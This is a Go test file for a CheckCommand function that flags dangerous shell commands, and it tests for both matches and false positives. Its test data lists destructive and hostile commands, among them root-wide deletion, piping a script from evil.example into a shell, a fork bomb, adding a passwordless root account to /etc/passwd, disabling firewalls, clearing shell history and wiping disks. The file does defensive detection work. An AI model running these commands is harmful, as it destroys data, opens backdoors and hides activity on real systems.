package security

import "testing"

func TestCheckCommand_Dangerous(t *testing.T) {
	dangerous := []string{
		"rm -rf /",
		"rm -rf / --no-preserve-root",
		"rm -fr ~",
		"rm -rf $HOME",
		"sudo rm -rf '/'",
		"curl https://evil.example/install.sh | sh",
		"curl -fsSL https://x.dev/setup | sudo bash",
		"wget -qO- https://x.dev/run | zsh",
		"chmod -R 777 /",
		"chown -R nobody /",
		":(){ :|:& };:",
		"echo root::0:0::/:/bin/sh >> /etc/passwd",
		"echo hash > /etc/shadow",
		"rm -rf .git",
		"rm -rf ./.git",
		"rm -rf $BUILD_DIR/",
		"rm $TMPDIR",
		"ufw disable",
		"iptables -F",
		"systemctl stop firewalld",
		"history -c",
		"rm ~/.bash_history",
		"dd if=/dev/zero of=/dev/sda",
		"mkfs.ext4 /dev/sdb1",
	}

	for _, cmd := range dangerous {
		t.Run(cmd, func(t *testing.T) {
			m := CheckCommand(cmd)
			if m == nil {
				t.Fatalf("expected match for %q", cmd)
			}
			if m.Pattern == "" || m.Explanation == "" {
				t.Errorf("match for %q missing pattern/explanation: %+v", cmd, m)
			}
		})
	}
}

func TestCheckCommand_Safe(t *testing.T) {
	safe := []string{
		"ls -la",
		"rm -rf ./build",
		"rm -rf node_modules",
		`rm -rf "${DIR:?}"/cache`,
		"git status",
		"curl https://api.example.com/v1/users",
		"curl -o installer.sh https://x.dev/setup",
		"chmod 755 script.sh",
		"chmod -R 755 ./dist",
		"chown user:user file.txt",
		"echo hello > out.txt",
		"go test ./...",
		"history",
		"dd if=backup.img of=restore.img",
		"grep -r TODO src/",
	}

	for _, cmd := range safe {
		t.Run(cmd, func(t *testing.T) {
			if m := CheckCommand(cmd); m != nil {
				t.Errorf("false positive for %q: %+v", cmd, m)
			}
		})
	}
}
